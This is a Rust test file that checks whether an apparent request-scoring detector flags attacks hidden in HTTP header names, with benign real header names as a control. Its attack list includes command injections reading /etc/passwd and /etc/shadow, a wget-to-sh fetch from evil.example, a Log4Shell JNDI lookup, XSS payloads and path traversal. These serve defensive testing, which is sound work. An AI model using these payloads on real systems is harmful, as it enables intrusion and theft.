//! Header names are scored (issue 12): frameworks hand every header, name included, to the
//! application and loggers write it, so an attacker who knows that only values are read would
//! put the payload in the name. Real header names are tokens of letters, digits and `-`; those
//! cost nothing and never score, anything else is scored like a cookie name.

mod common;

use common::patterns_only;
use scoring::ScoreInput;

/// Attacks as header names (the scoring API and ext_proc take any name; nginx and hyper
/// forward any RFC 9110 token, which includes `` ` ``, `|`, `'` and `$`).
const ATTACK_NAMES: &[&str] = &[
    "x-a|cat${IFS}/etc/passwd",
    "x`wget${IFS}evil.example|sh`",
    "x`id`|sh",
    "${jndi:ldap://198.51.100.7:1389/a}",
    "<script>alert(1)</script>",
    "x-file=../../../../etc/passwd",
    "<svg/onload=alert(document.domain)>",
    "x;cat /etc/shadow",
];

const REAL_NAMES: &[&str] = &[
    "X-Amz-Date",
    "sec-ch-ua-platform",
    "X_Forwarded_For",
    "x-b3-traceid",
    "X-Request-ID",
    "If-None-Match",
    "X-Goog-Api-Client",
    "traceparent",
];

fn score(name: &str, value: &str) -> scoring::verdict::ScoreAll {
    let headers = vec![(name.to_string(), value.to_string())];
    patterns_only().score_patterns(&ScoreInput { request_text: "GET /\n", headers: &headers })
}

#[test]
fn an_attack_in_a_header_name_is_flagged() {
    let engine = patterns_only();
    let mut misses = Vec::new();
    for name in ATTACK_NAMES {
        for value in ["1", ""] {
            let r = score(name, value);
            if r.score <= engine.threshold() {
                misses.push(format!("{name:?} (value {value:?}) -> {} {}", r.score, r.reason));
            }
        }
    }
    println!("attacks in header names: {}/{} flagged", ATTACK_NAMES.len() * 2 - misses.len(), ATTACK_NAMES.len() * 2);
    assert!(misses.is_empty(), "header names not scored:\n{}", misses.join("\n"));
}

#[test]
fn real_header_names_stay_clean() {
    for name in REAL_NAMES {
        let r = score(name, "1");
        assert_eq!(r.score, 0.0, "{name}: {r:?}");
    }
}
